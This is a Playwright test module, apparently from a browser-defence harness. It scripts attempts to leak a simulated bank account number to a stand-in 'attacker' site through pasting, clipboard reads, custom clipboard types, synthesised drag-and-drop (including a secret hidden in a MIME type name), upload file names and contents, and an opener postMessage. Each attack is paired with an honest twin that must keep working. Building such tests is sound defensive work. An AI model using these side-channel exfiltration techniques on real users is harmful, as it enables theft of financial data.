// Group 6 by what a browser carries between sites: clipboard, files, messages between windows. By Playwright's hands, which
// have all of these. Each attack has an honest twin that must go on working.
import { gzipSync } from 'node:zlib';
import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
import { urlOf } from '../sites/world.mjs';

const select = "getSelection().selectAllChildren(document.querySelector('#account'))";
const told = ({ sites }) => sites.collector.records.some((r) => r.url.includes('/told?'));
export const grant = ({ page }) => page.context().grantPermissions(['clipboard-read', 'clipboard-write']);

async function copyAccount(hands) {
  await hands.run(select);
  await hands.press('Control+c');
}

async function download(hands) {
  const saved = hands.page.waitForEvent('download', { timeout: 5_000 });
  await hands.click({ link: 'Download statement' });
  return (await saved).path();
}

const choose = (hands, name, text) =>
  hands.page.setInputFiles('input[type=file]', { name, mimeType: 'text/csv', buffer: Buffer.from(text) });

/** A drag that comes from elsewhere, as a debugger makes it. */
async function drop(hands, items) {
  const protocol = await hands.page.context().newCDPSession(hands.page);
  const { x, y } = await hands.page.locator('#z').boundingBox();
  const at = { x: x + 20, y: y + 20, data: { items, dragOperationsMask: 1 } };
  for (const type of ['dragEnter', 'dragOver', 'drop']) await protocol.send('Input.dispatchDragEvent', { type, ...at });
}

export const exchanges = [
  {
    id: 'pasted-where-a-page-listens',
    group: 6,
    async does({ hands }) {
      await copyAccount(hands);
      await hands.goto(urlOf('attacker', '/pasting'));
      await hands.press('Control+v');
      await hands.wait(600);
    },
  },
  {
    id: 'pasted-into-a-listening-field',
    group: 6,
    async does({ hands }) {
      await copyAccount(hands);
      await hands.goto(urlOf('attacker', '/pasting'));
      await hands.click({ label: 'Notes' });
      await hands.press('Control+v');
      await hands.wait(600);
    },
  },
  {
    id: 'clipboard-read-by-script',
    group: 6,
    async does({ hands }) {
      await grant(hands);
      await hands.run(`navigator.clipboard.writeText(document.querySelector('#account').textContent)`);
      await hands.goto(urlOf('attacker', '/reading'));
      await hands.click({ button: 'Go on' });
      await hands.wait(600);
    },
  },
  {
    id: 'clipboard-of-another-type',
    group: 6,
    async does({ hands }) {
      await grant(hands);
      await hands.run(`(async () => {
        const item = (type, text) => [type, new Blob([text], { type })];
        const items = [item('text/plain', 'hi'), item('web text/x-note', document.querySelector('#account').textContent)];
        await navigator.clipboard.write([new ClipboardItem(Object.fromEntries(items))]);
      })().catch(() => {})`);
      await hands.goto(urlOf('attacker', '/reading-any'));
      // A page can only ask for such types where it names them.
      await hands.run(
        'const { read } = navigator.clipboard; navigator.clipboard.read = () => read.call(navigator.clipboard, { unsanitized: [] }); 0',
      );
      await hands.click({ button: 'Go on' });
      await hands.wait(600);
    },
  },
  ...['text/plain', 'text/x-note'].map((mimeType) => ({
    id: `dropped-as-${mimeType}`,
    group: 1,
    async does({ hands, secrets }) {
      await hands.goto(urlOf('attacker', '/dropping'));
      await drop(hands, [{ mimeType, data: secrets['account number'] }]);
      await hands.wait(600);
    },
  })),
  {
    id: 'dragged-by-its-type',
    group: 1,
    async does({ hands, secrets }) {
      await hands.goto(urlOf('attacker', '/dropping'));
      await drop(hands, [{ mimeType: `x/${secrets['account number'].replaceAll(' ', '')}`, data: 'x' }]);
      await hands.wait(600);
    },
  },
  {
    id: 'uploaded-under-another-name',
    group: 6,
    async does({ hands, secrets }) {
      await hands.goto(urlOf('attacker', '/upload'));
      await choose(hands, 'holiday.csv', `account,${secrets['account number']}`);
      await hands.wait(1_000);
    },
    succeeded: told,
  },
  {
    id: 'uploaded-by-its-name',
    group: 6,
    async does({ hands, secrets }) {
      await hands.goto(urlOf('attacker', '/file-names'));
      await choose(hands, `${secrets['account number']}.csv`, 'roses,4');
      await hands.wait(1_000);
    },
  },
  {
    id: 'downloaded-then-uploaded',
    group: 6,
    async does({ hands }) {
      await download(hands);
      await hands.goto(urlOf('attacker', '/upload'));
      // What nobody can read in it: only its name tells where it is from.
      await choose(hands, 'statement (1).csv', gzipSync('x').toString('base64'));
      await hands.wait(1_000);
    },
    succeeded: told,
  },
  {
    id: 'told-to-the-opener',
    group: 6,
    async does({ hands }) {
      await hands.goto(urlOf('attacker', '/hearing'));
      const opened = hands.page.waitForEvent('popup');
      await hands.click({ button: 'Open your bank' });
      const bank = await opened;
      await bank.waitForSelector('#account');
      await hands.wait(500);
      await bank.evaluate("opener.postMessage({ d: [document.querySelector('#account').textContent] }, '*')");
      await hands.wait(800);
    },
  },
];

/** `{id, does(scene)}`; each throws when the work wasn't completed. */
export const honestExchanges = [
  {
    id: 'copy-and-paste-within-the-bank',
    async does({ hands, world }) {
      await copyAccount(hands);
      await hands.goto(urlOf('bank', '/transfer'));
      await hands.click({ label: 'Reference' });
      await hands.press('Control+v');
      const value = () => hands.run("document.querySelector('[name=reference]').value");
      await until(async () => (await value()) === world.person.account, 'pasting within the bank');
    },
  },
  {
    id: 'copy-in-the-forum-and-paste-in-the-shop',
    async does({ hands }) {
      await hands.goto(urlOf('forum', '/thread/mug'));
      await hands.run("getSelection().selectAllChildren(document.querySelector('h1'))");
      const title = await hands.run('getSelection().toString()');
      await hands.press('Control+c');
      await hands.goto(urlOf('shop'));
      await hands.click({ label: 'Search the shop' });
      await hands.press('Control+v');
      const value = () => hands.run("document.querySelector('input').value");
      await until(async () => (await value()) === title, 'pasting a title');
    },
  },
  {
    id: 'a-copy-button-and-its-page',
    async does({ hands }) {
      await grant(hands);
      await signInAgain(hands);
      const code = "navigator.clipboard.writeText('seen').then(() => navigator.clipboard.readText())";
      await until(async () => (await hands.run(code)) === 'seen', 'a page that copies and reads its own');
    },
  },
  {
    id: 'download-a-statement',
    async does({ hands, world }) {
      await signInAgain(hands, world);
      if (!(await download(hands))) throw new Error('not done: the download');
    },
  },
  {
    id: 'upload-something-of-ones-own',
    async does({ hands }) {
      await hands.goto('http://files.example/');
      await choose(hands, 'garden.csv', 'roses,4');
      await until(async () => (await hands.read()).includes('Chosen: roses,4'), 'choosing a file');
    },
  },
  {
    id: 'drop-something-from-elsewhere',
    async does({ hands }) {
      await hands.goto('http://files.example/');
      await drop(hands, [
        { mimeType: 'text/plain', data: 'roses' },
        { mimeType: 'text/x-note', data: 'in May' },
      ]);
      await until(async () => (await hands.read()).includes('Dropped: roses in May'), 'dropping a text');
    },
  },
  {
    id: 'drag-within-a-page',
    async does({ hands }) {
      await hands.goto('http://files.example/');
      await hands.page.locator('#rose').dragTo(hands.page.locator('#z'));
      await until(async () => (await hands.read()).includes('Dropped: a rose (trusted)'), 'dragging within a page');
    },
  },
  {
    id: 'windows-of-two-sites-that-talk',
    async does({ hands }) {
      await hands.goto('http://files.example/');
      const opened = hands.page.waitForEvent('popup');
      await hands.run("window.friend = open('http://friend.example/'); 0");
      await (await opened).waitForSelector('h1');
      await hands.wait(400);
      await hands.run("friend.postMessage('how is the garden', '*')");
      await until(async () => (await hands.read()).includes('Heard: roses do well'), 'an answer from another window');
    },
  },
];

const signInAgain = async (hands, world) => {
  if (world) await signInToBank(hands, world);
  await readBalance(hands, {});
};
